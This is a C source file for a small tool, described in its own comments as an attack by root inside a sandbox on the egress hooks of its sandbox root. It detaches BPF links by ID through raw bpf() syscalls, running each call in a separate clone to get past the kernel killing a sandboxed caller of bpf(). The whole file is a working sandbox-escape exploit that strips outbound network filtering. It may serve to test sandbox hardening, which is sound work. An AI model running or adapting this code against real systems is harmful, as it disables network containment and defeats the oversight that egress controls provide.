/*
 * Detaches BPF links by id from inside a sandbox, each bpf() call made by
 * a process of its own (the kernel kills a sandboxed caller of bpf() at
 * its first call): a clone sharing the file table takes the link's fd
 * by id, a second clone detaches it through that fd. The attack of root
 * in a sandbox on the egress hooks of its sandbox root. Raw syscalls, no
 * libbpf.
 *
 *   linkdetach ID...          prints "ID: fd N" for each, then "done"
 *   linkdetach --alone ID...  both calls in this one process
 */
#include <linux/bpf.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static long bpf(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

static int alone;

/* Runs one bpf() call in a clone that shares this file table (or here,
 * --alone). */
static void in_clone(int cmd, union bpf_attr *attr)
{
	long pid = alone ? 0 : syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0,
				       0, 0, 0);

	if (alone) {
		bpf(cmd, attr);
		return;
	}

	if (pid < 0) {
		perror("clone");
		exit(2);
	}
	if (pid == 0)
		_exit(bpf(cmd, attr) < 0);
	waitpid(pid, NULL, 0);
}

int main(int argc, char **argv)
{
	alone = argc > 1 && !strcmp(argv[1], "--alone");
	for (int i = 1 + alone; i < argc; i++) {
		union bpf_attr attr;
		int fd = dup(0);	/* the lowest free fd: the link's */

		close(fd);
		memset(&attr, 0, sizeof(attr));
		attr.link_id = strtoul(argv[i], NULL, 0);
		in_clone(BPF_LINK_GET_FD_BY_ID, &attr);
		memset(&attr, 0, sizeof(attr));
		attr.link_detach.link_fd = fd;
		in_clone(BPF_LINK_DETACH, &attr);
		close(fd);
		printf("%s: fd %d\n", argv[i], fd);
	}
	printf("done\n");
	return 0;
}
